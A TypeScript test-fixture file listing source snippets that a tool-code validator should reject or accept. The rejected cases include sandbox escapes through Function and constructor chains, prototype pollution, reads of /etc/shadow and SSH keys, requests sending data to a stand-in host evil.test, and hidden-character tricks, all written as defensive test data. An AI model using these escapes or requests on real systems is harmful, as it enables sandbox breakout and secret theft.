/** Sources of the same classes as those of the corpus: `[what, source, rule]`; no rule where the source must be accepted. */
type OwnCase = readonly [what: string, source: string, rule?: string]

const body = (text: string): string =>
  `export default async function run(input: { q: string; path: string }, ctx: ToolContext): Promise<unknown> {\n  ${text}\n}\n`

export const rejectedSources: readonly OwnCase[] = [
  [
    'an export from a module',
    "export { readFileSync } from 'fs'\nexport default () => 1",
    'import.forbidden',
  ],
  [
    'an export of everything',
    "export * from 'node:os'\nexport default () => 1",
    'import.forbidden',
  ],
  ['an import for its effect', "import 'node:module'\nexport default () => 1", 'import.forbidden'],
  ['a relative import', "import x from './other.ts'\nexport default () => x", 'import.forbidden'],
  [
    'an import from the network',
    "import x from 'https://evil.test/x.js'\nexport default () => x",
    'import.forbidden',
  ],
  [
    'an import of data',
    "import x from 'data:text/javascript,1'\nexport default () => x",
    'import.forbidden',
  ],
  ['ai in a function', "import { tool } from 'ai'\nexport default () => tool", 'import.forbidden'],
  [
    'a type of a module that is imported as a value',
    "import { type Stats } from 'node:fs'\nexport default (x: Stats) => x",
    'import.forbidden',
  ],
  [
    'an import whose types are not erased',
    "import fs = require('fs')\nexport default () => fs",
    'syntax.not-erasable',
  ],
  [
    'a module without a version',
    "import x from 'toolcrib:lib/x'\nexport default () => x",
    'import.forbidden',
  ],
  [
    'a module that is not pinned',
    "import x from 'toolcrib:lib/x@1'\nexport default () => x",
    'import.unpinned',
  ],
  ['require', body('return require("child_process")'), 'global.forbidden'],
  ['require of a text', body('return require("child_process")'), 'import.forbidden'],
  ['process', body('return process.env.HOME'), 'global.forbidden'],
  ['a global by a shorthand', body('return { process }'), 'global.forbidden'],
  ['the type of a global', body('return typeof process'), 'global.forbidden'],
  ['fetch', body('return (await fetch("https://api.good.test/")).text()'), 'global.forbidden'],
  [
    'a global that is shadowed elsewhere',
    `function f(process: string) { return process }\n${body('return f(process.cwd())')}`,
    'global.forbidden',
  ],
  ['a global in a default', 'export default async ({ a = globalThis }) => a', 'global.forbidden'],
  ['a global by an escape in its name', body('return pro\\u0063ess.env'), 'global.forbidden'],
  ['a global in a template', body('return `${Deno.cwd()}`'), 'global.forbidden'],
  ['a global as a decorator of a key', body('return { [Bun.version]: 1 }'), 'global.forbidden'],
  ['native code', body('return ffi.open("x")'), 'global.forbidden'],
  ['eval as a tag', body('return eval`1`'), 'call.eval'],
  ['eval given away', body('return [input.q].map(eval)'), 'call.eval'],
  ['a timer with text', body('setTimeout("x()", 1); return 1'), 'call.eval'],
  ['Function given away', body('return [Function][0]'), 'call.function-constructor'],
  [
    'Function by apply',
    body('return Function.apply(null, ["return 1"])()'),
    'call.function-constructor',
  ],
  [
    'Reflect.construct of Function',
    body('return Reflect.construct(Function, ["return 1"])()'),
    'call.function-constructor',
  ],
  [
    'constructor of a function',
    body('return (() => 1).constructor("return 1")()'),
    'proto.constructor',
  ],
  [
    'constructor of a constructor',
    body('return "".constructor.constructor("return 1")()'),
    'proto.constructor',
  ],
  [
    'constructor by optional chaining',
    body('return input?.constructor?.constructor?.("return 1")'),
    'proto.constructor',
  ],
  [
    'constructor by a constant',
    `const key = "constructor"\n${body('return (input as any)[key][key]("return 1")()')}`,
    'proto.constructor',
  ],
  [
    'constructor by a template of constants',
    `const part = "struct"\n${body('return (input as any)[`con${part}or`]("return 1")')}`,
    'proto.constructor',
  ],
  [
    'constructor by destructuring',
    body('const { constructor: make } = async () => 1; return make("return 1")'),
    'proto.constructor',
  ],
  [
    'constructor by a computed key of a pattern',
    body('const { ["construct" + "or"]: make } = () => 1; return make'),
    'proto.constructor',
  ],
  [
    'constructor that is kept',
    body('const make = (input as any).constructor; return make'),
    'proto.constructor',
  ],
  ['__proto__ by a text', body('return (input as any)["__proto__"]'), 'proto.access'],
  ['__proto__ by two texts', body('return (input as any)["__pro" + "to__"]'), 'proto.access'],
  ['__proto__ in a literal', body('return { __proto__: input }'), 'proto.access'],
  [
    '__proto__ by destructuring',
    body('const { __proto__: p } = input as any; return p'),
    'proto.access',
  ],
  ['__lookupGetter__', body('return (input as any).__lookupGetter__("x")'), 'proto.access'],
  [
    '__defineGetter__',
    body('return (input as any).__defineGetter__("x", () => 1)'),
    'proto.access',
  ],
  [
    'callee by a text',
    'export default function run() { return (arguments as any)["callee"] }',
    'proto.access',
  ],
  [
    'a patch of Object.prototype',
    body('(Object.prototype as any).admin = true; return 1'),
    'proto.mutation',
  ],
  [
    'a patch through a name',
    body('const P: any = Array.prototype; P.map = () => []; return 1'),
    'proto.mutation',
  ],
  [
    'a patch by destructuring',
    body('const { prototype: p } = Promise as any; p.then = 1; return 1'),
    'proto.mutation',
  ],
  [
    'a patch by Object.assign',
    body('Object.assign(Math, { random: () => 4 }); return 1'),
    'proto.mutation',
  ],
  [
    'a patch by Object.defineProperty',
    body('Object.defineProperty(String.prototype, "x", { value: 1 }); return 1'),
    'proto.mutation',
  ],
  ['a removed method', body('delete (Map.prototype as any).get; return 1'), 'proto.mutation'],
  [
    'a patch of the prototype of a value',
    body('(Object.getPrototypeOf([]) as any).map = 1; return 1'),
    'proto.mutation',
  ],
  ['Reflect.setPrototypeOf', body('return Reflect.setPrototypeOf(input, null)'), 'proto.mutation'],
  [
    'setPrototypeOf by destructuring',
    body('const { setPrototypeOf } = Object; return setPrototypeOf(input, null)'),
    'proto.mutation',
  ],
  ['a built-in that is replaced', body('(JSON as any) = {}; return 1'), 'proto.mutation'],
  ['a counter on a built-in', body('(Math as any).calls++; return 1'), 'proto.mutation'],
  [
    'writing without the capability',
    body('await ctx.fs.writeText("a", "b"); return 1'),
    'capability.missing',
  ],
  [
    'writing by a constant key',
    body('await (ctx.fs as any)["write" + "Text"]("a", "b"); return 1'),
    'capability.missing',
  ],
  [
    'writing by a destructured parameter',
    'export default async (input: any, { fs: { writeText } }: any) => writeText("a", "b")',
    'capability.missing',
  ],
  [
    'writing by a chain of names',
    body('const { fs: files } = ctx; const save = files.writeText; return save("a", "b")'),
    'capability.missing',
  ],
  [
    'writing in a helper',
    `async function save(files: any, text: string) { await files.appendText("a", text) }\n${body('await save(ctx.fs, "x"); return 1')}`,
    'capability.missing',
  ],
  [
    'writing in a helper that is given the context',
    `const save = async ({ fs }: ToolContext) => fs.delete("a")\n${body('return save(ctx)')}`,
    'capability.missing',
  ],
  [
    'calling a tool without the capability',
    body('return ctx.tools.call("shell", {})'),
    'capability.missing',
  ],
  ['the tools service as a value', body('const t = ctx.tools; return t'), 'capability.missing'],
  [
    'a capability in an optional chain',
    body('return ctx?.tools?.call?.("x", {})'),
    'capability.missing',
  ],
  [
    'a capability by const then export',
    'const run = async (input: any, c: any) => c.tools.call("x", {})\nexport default run',
    'capability.missing',
  ],
  [
    'a capability by a named export',
    'async function run(input: any, c: any) { return c.fs.createFolder("x") }\nexport { run as default }',
    'capability.missing',
  ],
  ['a path at the root', body('return ctx.fs.readText("/")'), 'path.literal'],
  [
    'a path that climbs in the middle',
    body('return ctx.fs.readText("/srv/data/../secret")'),
    'path.literal',
  ],
  [
    'a relative path that climbs in the middle',
    body('return ctx.fs.readText("a/../../b")'),
    'path.literal',
  ],
  [
    'a path by a constant',
    `const FILE = "/etc/" + "shadow"\n${body('return ctx.fs.readText(FILE)')}`,
    'path.literal',
  ],
  ['a path that begins outside', body('return ctx.fs.readText(`/etc/${input.q}`)'), 'path.literal'],
  [
    'a path with a drive',
    body('return ctx.fs.readText("C:\\\\Windows\\\\win.ini")'),
    'path.literal',
  ],
  [
    'a path by an alias',
    body('const read = ctx.fs.readText; return read("/root/.ssh/id_rsa")'),
    'path.literal',
  ],
  ['a path of a home folder', body('return ctx.fs.readText("~/.ssh/id_rsa")'), 'path.literal'],
  [
    'a host below the allowed one',
    body('return ctx.http.get("https://x.api.good.test/")'),
    'http.literal',
  ],
  [
    'a host that ends like the allowed one',
    body('return ctx.http.get("https://evilapi.good.test/")'),
    'http.literal',
  ],
  ['the name above a wildcard', body('return ctx.http.get("https://wild.test/")'), 'http.literal'],
  [
    'a host behind a user name',
    body('return ctx.http.get("https://api.good.test@evil.test/")'),
    'http.literal',
  ],
  [
    'a password in the address',
    body('return ctx.http.get("https://a:b@api.good.test/")'),
    'http.literal',
  ],
  ['another port', body('return ctx.http.get("https://api.good.test:8443/")'), 'http.literal'],
  ['an address of a file', body('return ctx.http.get("file:///etc/passwd")'), 'http.literal'],
  [
    'an address with a query that is not known yet',
    body('return ctx.http.get(`https://evil.test/?q=${input.q}`)'),
    'http.literal',
  ],
  [
    'an address in a named request',
    body('const url = "https://evil.test/"; return ctx.http.request({ url })'),
    'http.literal',
  ],
  [
    'an address in a request with a name',
    body('const request = { url: "https://evil.test/" }; return ctx.http.request(request)'),
    'http.literal',
  ],
  [
    'a post to another host',
    body('const { http } = ctx; return http.post("https://evil.test/", { body: "x" })'),
    'http.literal',
  ],
  ['a relative address', body('return ctx.http.get("/v1/items")'), 'http.literal'],
  [
    'an address by backslashes',
    body('return ctx.http.get("https:\\\\\\\\evil.test\\\\")'),
    'http.literal',
  ],
  ['another secret', body('return ctx.secrets.ref("OTHER_KEY")'), 'secret.literal'],
  [
    'another secret by a constant',
    `const NAME = "ADMIN_" + "KEY"\n${body('const { ref } = ctx.secrets; return ref(NAME)')}`,
    'secret.literal',
  ],
  [
    'an object as the default export',
    'export default { execute: async () => 1 }',
    'shape.default-export',
  ],
  [
    'a class as the default export',
    'export default class Tool { execute() { return 1 } }',
    'shape.default-export',
  ],
  [
    'a value as the default export',
    'const answer = 42\nexport default answer',
    'shape.default-export',
  ],
  [
    'a generator as the default export',
    'export default async function* run() { yield 1 }',
    'shape.default-export',
  ],
  ['exports in the manner of CommonJS', 'module.exports = async () => 1', 'shape.default-export'],
  ['two default exports', 'export default () => 1\nexport default () => 2', 'syntax'],
  ['a const enum', `const enum E { A }\n${body('return E.A')}`, 'syntax.not-erasable'],
  ['an assertion in angle brackets', body('return <any>input'), 'syntax.not-erasable'],
  [
    'a decorator',
    `const d = (x: unknown): void => void x\n@d class A {}\n${body('return new A()')}`,
    'syntax',
  ],
  ['an accessor field', `class A { accessor x = 1 }\n${body('return new A().x')}`, 'syntax'],
  ['JSX', body('return <b>1</b>'), 'syntax'],
  ['an octal number', body('return 010'), 'syntax'],
  ['a name declared twice', body('const a = 1; const a = 2; return a'), 'syntax'],
  ['await in a plain function', 'export default () => { await 1 }', 'syntax'],
  ['a zero-width space in a name', body('const a\u200Bb = 1; return 1'), 'hidden-characters'],
  ['tag characters in a text', body('return "Adds\u{E0049}\u{E0067}"'), 'hidden-characters'],
  ['a joiner outside of emoji', body('return "ad\u200Dmin"'), 'hidden-characters'],
  [
    'a line separator in a comment',
    body('// x\u2028return process\n return 1'),
    'hidden-characters',
  ],
  ['a terminal escape', body('return 1 // \u001B[1A\u001B[2K'), 'hidden-characters'],
  ['a carriage return alone', body('return 1 // fine\r  evil()'), 'hidden-characters'],
  ['a byte order mark', `\uFEFF${body('return 1')}`, 'hidden-characters'],
  ['hidden variation selectors', body('return "a\u{E0100}\u{E0101}"'), 'hidden-characters'],
  ['half of a character', body('return "\uD83D"'), 'hidden-characters'],
  ['a filler letter as a name', body('const \u3164 = 1; return 1'), 'hidden-characters'],
  [
    'code beyond the edge of the window',
    `export default () => 1;${' '.repeat(5_000)}globalThis.x = 1;`,
    'size',
  ],
  ['a long line', `// ${'x'.repeat(998)}\nexport default () => 1`, 'size'],
  ['deep parentheses', `export default () => ${'('.repeat(500)}1${')'.repeat(500)}`, 'size'],
  [
    'a chain of many parts',
    `export default () => ${Array.from({ length: 600 }, () => '1').join('\n+ ')}`,
    'size',
  ],
  ['a global that is made', body('shared = input.q; return 1'), 'global.forbidden'],
  [
    'a path with an end in its middle',
    body('return ctx.fs.readText("a.txt\\0.png")'),
    'path.literal',
  ],
  [
    'a path that is an address',
    body('return ctx.fs.readText("file:///etc/passwd")'),
    'path.literal',
  ],
  [
    'a path of another machine',
    body('return ctx.fs.readText("\\\\\\\\server\\\\share\\\\x")'),
    'path.literal',
  ],
  [
    'an allowed host before a backslash',
    body('return ctx.http.get("https://api.good.test\\\\@evil.test/")'),
    'http.literal',
  ],
  [
    'a line break in an address',
    body('return ctx.http.get("https://api.good.test/a\\nb")'),
    'http.literal',
  ],
]

export const acceptedSources: readonly OwnCase[] = [
  ['an import of types', "import type { Stats } from 'node:fs'\nexport default (x: Stats) => x"],
  [
    'types of a global',
    'export default (x: Function, y: typeof globalThis, p: NodeJS.Process) => String(x) + String(y) + String(p)',
  ],
  ['declared globals', 'declare const process: unique symbol\nexport default () => 1'],
  [
    'forbidden words in texts and comments',
    body(
      '// eval(process.env), import("fs"), globalThis\n  return "require(\'fs\') __proto__ eval(1) constructor" // https://evil.test/',
    ),
  ],
  [
    'forbidden words as keys',
    body(
      'const o: any = { eval: 1, fetch() { return 2 }, get process() { return 3 } }; return o.eval + o.fetch() + o.process',
    ),
  ],
  [
    'forbidden words as methods and fields',
    `class Api { static require = 1; #process = 2; fetch() { return this.#process } }\n${body('return new Api().fetch() + Api.require')}`,
  ],
  [
    'a parameter named like a global',
    body(
      'const f = (fetch: (x: string) => string, module: string) => fetch(module); return f((x) => x, input.q)',
    ),
  ],
  [
    'a local variable named like a global',
    body(
      'const location = "here"; const { process, window = 1 } = JSON.parse(input.q); return [location, process, window]',
    ),
  ],
  [
    'a caught name like a global',
    body('try { return JSON.parse(input.q) } catch (process) { return String(process) }'),
  ],
  [
    'a loop variable named like a global',
    body('for (const document of [1, 2]) { if (document > 1) return document } return 0'),
  ],
  [
    'a hoisted function named like a global',
    body('return fetch(1); function fetch(x: number) { return x }'),
  ],
  ['a var used before it is declared', body('self = input.q; var self: string; return self')],
  [
    'an imported name like a global',
    "import type { fetch } from 'x'\nexport default (a: typeof fetch) => a",
  ],
  ['a label like a global', body('process: for (;;) { break process } return 1')],
  [
    'a class that extends a built-in',
    `class NotFound extends Error { override name = "NotFound"; constructor(m: string) { super(m) } }\n${body('throw new NotFound(input.q)')}`,
  ],
  [
    'the name of a constructor by optional chaining',
    body('return (input as any)?.constructor?.name'),
  ],
  ['a comparison of constructors', body('return (input as any).constructor === Object')],
  ['a key named constructor', body('return { constructor: 1, "constructor2": 2 }')],
  [
    'instanceof Function',
    body('return (input as any) instanceof Function || typeof input === "function"'),
  ],
  [
    'an object without prototype',
    body('const d: any = Object.create(null); d[input.q] = 1; return { __proto__: null, ...d }'),
  ],
  [
    'a prototype of its own class',
    `function Point(this: any) { this.x = 1 }\nPoint.prototype.y = 2\n${body('return new (Point as any)().y')}`,
  ],
  [
    'a frozen object of its own',
    body('const o = Object.freeze({ a: 1 }); return Object.assign({}, o, { b: Math.max(1, 2) })'),
  ],
  [
    'a variable that first holds a built-in value',
    body(
      'let best: any = undefined; let low = Infinity; best = { score: low }; best.score = 1; low = 2; return best',
    ),
  ],
  [
    'Object.assign of built-in things into another',
    body('const m = {}; return Object.assign(m, Math, JSON)'),
  ],
  [
    'a prototype that is only read',
    body(
      'return Object.prototype.hasOwnProperty.call(input, "q") && Array.prototype.slice.call([1])',
    ),
  ],
  [
    'a map with keys of any name',
    body('const m = new Map<string, number>(); m.set("__proto__", 1); return m.get("constructor")'),
  ],
  [
    'a field that is named caller',
    body('const phone = { caller: "x", callee: "y" }; return phone.caller + phone.callee'),
  ],
  ['arguments', 'export default function run() { return arguments.length }'],
  [
    'what the sandbox adds',
    body(
      'const u = new URL("https://x.test/?a=1"); await new Promise<void>((r) => { setTimeout(r, 1) }); console.log(u.searchParams.get("a")); return structuredClone([new TextEncoder().encode(atob(btoa(input.q))).length, crypto.randomUUID(), performance.now()])',
    ),
  ],
  [
    'generics, overloads, abstract classes',
    `function f(x: string): string\nfunction f(x: number): number\nfunction f<const T>(x: T): T { return x }\nabstract class A<in out T> { abstract get(): T; protected readonly x?: T; declare y: number }\n${body('return f(input.q)')}`,
  ],
  [
    'an interface and a declared module',
    `interface A { b: string }\ndeclare module "x" { export const y: number }\n${body('const a: A = { b: input.q }; return a!.b')}`,
  ],
  [
    'an assertion function',
    `function assertText(x: unknown): asserts x is string { if (typeof x !== "string") throw new TypeError("no text") }\n${body('assertText(input.q); return input.q')}`,
  ],
  [
    'a namespace of types',
    `namespace Types { export type A = string }\n${body('const a: Types.A = input.q; return a')}`,
  ],
  [
    'async iteration and private names',
    `class Pages { #n = 0; async *[Symbol.asyncIterator]() { while (this.#n < 3) yield this.#n++ } }\n${body('const all = []; for await (const p of new Pages()) all.push(p); return all')}`,
  ],
  [
    'regular expressions',
    body(
      'return /(?<year>\\d{4})-\\p{L}[\\]/"\'`]/u.exec(input.q)?.groups?.year ?? input.q.replace(/\\/\\*/g, "")',
    ),
  ],
  ['big numbers, separators, exponents', body('return String(10n ** 20n) + 1_000_000 + 2 ** 10')],
  ['await at the top', 'const ready = await Promise.resolve(1)\nexport default async () => ready'],
  [
    'a default export that a function makes',
    'const wrap = <T,>(f: T): T => f\nexport default wrap(async (input: any, ctx: any) => ctx.log("info", "x"))',
  ],
  ['a function expression', 'export default (function run(input: any) { return input })'],
  ['a renamed export', 'const run = async () => 1\nexport { run as default }'],
  [
    'an export of more than the function',
    'export const version = 1\nexport type X = string\nexport default async function () { return version }',
  ],
  [
    'a path inside by a constant',
    `const FOLDER = "/srv/data"\n${body('return ctx.fs.readText(`${FOLDER}/${input.path}`)')}`,
  ],
  ['a path inside with steps', body('return ctx.fs.readText("/srv/./data//a/../b.txt")')],
  ['the folder itself', body('return ctx.fs.list("/srv/data/")')],
  ['a path that is not known yet', body('return ctx.fs.readText(input.path + ".txt")')],
  [
    'a path whose beginning may still lead inside',
    body('return ctx.fs.readText(`/srv/${input.path}`)'),
  ],
  ['a relative path with steps', body('return ctx.fs.readText("./a/../b.txt")')],
  [
    'exists by reading alone',
    body('return (await ctx.fs.exists("a")) && (await ctx.fs.stat("a"))'),
  ],
  ['a host below a wildcard', body('return ctx.http.get("https://a.b.wild.test:443/x?y#z")')],
  ['a host in capitals', body('return ctx.http.get("HTTPS://API.Good.test/")')],
  [
    'an address whose host is not known yet',
    body('return ctx.http.get(`https://${input.q}.wild.test/`)'),
  ],
  [
    'an address with what follows not known yet',
    body('return ctx.http.get("https://api.good.test" + input.path)'),
  ],
  [
    'a request that is put together',
    body(
      'const request: any = { method: "GET" }; request.url = "https://api.good.test/"; return ctx.http.request({ ...request, headers: {} })',
    ),
  ],
  [
    'the secret that was asked for',
    body('const [key] = await Promise.all([ctx.secrets.ref("API_KEY")]); return key.length'),
  ],
  ['a secret that is not known yet', body('return ctx.secrets.ref(input.q)')],
  ['everything that is free', body('ctx.log("info", "x"); await ctx.sleep(1); return ctx.call.id')],
  [
    'a context given to a helper',
    `async function load({ fs }: ToolContext, path: string) { return (await fs.readText(path)).text }\n${body('return load(ctx, input.path)')}`,
  ],
  ['emoji of several parts, flags, keycaps', body('return "👩‍👩‍👧 👍🏽 🏴󠁧󠁢󠁥󠁮󠁧󠁿 1️⃣ ❤️‍🔥 ☎︎"')],
  ['other alphabets', body('return "Привет, Ελλάδα, 日本, مرحبا, e\u0301"')],
  ['a name in another alphabet', body('const größe = 1; const имя = 2; return größe + имя')],
  ['lines of Windows', body('return 1').replaceAll('\n', '\r\n')],
  [
    'a source of the largest size',
    `${body('return 1')}${'// filler\n'.repeat(6_500)}`.slice(0, 65_536),
  ],
  ['a line of the largest size', `// ${'x'.repeat(997)}\nexport default () => 1`],
  ['nesting as people write it', body(`return ${'['.repeat(100)}1${']'.repeat(100)}`)],
  [
    'a chain as people write it',
    body(`return ${Array.from({ length: 200 }, (_, i) => `"part ${i}"`).join(' +\n    ')}`),
  ],
]
